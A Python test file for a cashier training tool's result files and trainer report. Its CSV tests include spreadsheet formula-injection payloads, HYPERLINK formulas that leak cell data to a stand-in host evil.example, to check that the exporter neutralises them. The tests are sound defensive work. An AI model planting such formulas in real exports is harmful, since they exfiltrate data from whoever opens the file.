"""Result files and the trainer's report: a table across trainees and scenarios, and its CSV."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cashier_tui.__main__ import main as cashier_main
from pos_core.training.report import csv_cell, main as report_main, read_results, report_rows
from pos_core.training.results import TrainingResult, load_result, save_result
from pos_core.training.scenario import shipped_scenarios
from pos_core.training.scoring import ScenarioRun, TillView


def result(trainee: str, scenario_id: str, *, mistakes: int = 0, hints: int = 0, day: int = 1) -> TrainingResult:
    scenario = next(s for s in shipped_scenarios() if s.id == scenario_id)
    run = ScenarioRun(scenario, clock=lambda: 0.0)
    run.start()
    for _ in range(hints):
        run.hint()
    for _ in range(mistakes):
        run.voided()
    run.paid(TillView(basket=dict(scenario.basket), customer_id=scenario.customer.account_id))
    return TrainingResult.from_run(run, trainee, now=datetime(2026, 11, day, 9, 30, tzinfo=UTC))


def test_a_result_file_round_trips(tmp_path: Path) -> None:
    saved = result("Robin", "02-card-scan", hints=1)
    path = save_result(saved, tmp_path)
    assert path.name == "20261101T093000Z-robin-02-card-scan.json"
    assert save_result(saved, tmp_path).name.endswith("-2.json")  # never overwrites
    loaded = load_result(path)
    assert loaded == saved
    data = json.loads(path.read_text())
    assert data["score"] == 95 and data["passed"] is True
    assert [step["goal"] for step in data["steps"]] == ["ring_up", "identify", "pay"]


def test_rows_per_trainee_and_scenario(tmp_path: Path) -> None:
    for saved in (
        result("Sam", "02-card-scan", mistakes=3, day=1),
        result("Sam", "02-card-scan", mistakes=1, day=2),
        result("robin", "07-payment-card-by-mistake", day=1),
    ):
        save_result(saved, tmp_path)
    (tmp_path / "notes.json").write_text("{}")
    results, problems = read_results(tmp_path)
    assert len(results) == 3 and len(problems) == 1 and "notes.json" in problems[0]
    rows = report_rows(results)
    assert [(r.trainee, r.scenario, r.attempts) for r in rows] == [
        ("robin", "07-payment-card-by-mistake", 1),
        ("Sam", "02-card-scan", 2),
    ]
    sam = rows[1]
    assert (sam.best_score, sam.last_score, sam.mistakes, sam.passed) == (85, 85, 1, True)


def test_the_command_prints_a_table_and_writes_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    save_result(result("Sam", "02-card-scan", mistakes=3), tmp_path)
    save_result(result("Robin", "05-phone-lookup"), tmp_path)
    assert cashier_main(["training-report", str(tmp_path)]) == 0
    out = capsys.readouterr()
    assert "Training results" in out.out and "02-card-scan" in out.out and "Robin" in out.out
    with (tmp_path / "report.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["trainee"], r["scenario"], r["last_score"], r["passed"]) for r in rows] == [
        ("Robin", "05-phone-lookup", "100", "yes"),
        ("Sam", "02-card-scan", "55", "no"),
    ]
    target = tmp_path / "out" / "r.csv"
    assert report_main([str(tmp_path), "--csv", str(target)]) == 0
    assert target.exists()
    assert report_main([str(tmp_path / "missing")]) == 2


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)",
                                   "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sam", "O'Neill", "Anne-Marie", "55", "2026-11-01T09:30:00Z", "", "a=b"])
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value


def test_a_trainee_named_as_a_formula_comes_out_of_the_real_report_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
    save_result(result(formula, "02-card-scan"), tmp_path)
    save_result(result("@Robin", "05-phone-lookup"), tmp_path)
    save_result(result("[bold red]Sam[/]", "05-phone-lookup"), tmp_path)
    assert cashier_main(["training-report", str(tmp_path)]) == 0
    shown = capsys.readouterr().out
    assert "[bold red]Sam[/]" in shown  # the table shows the name as typed, never as markup
    with (tmp_path / "report.csv").open(newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert sorted(cells) == sorted(["'" + formula, "'@Robin", "[bold red]Sam[/]"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
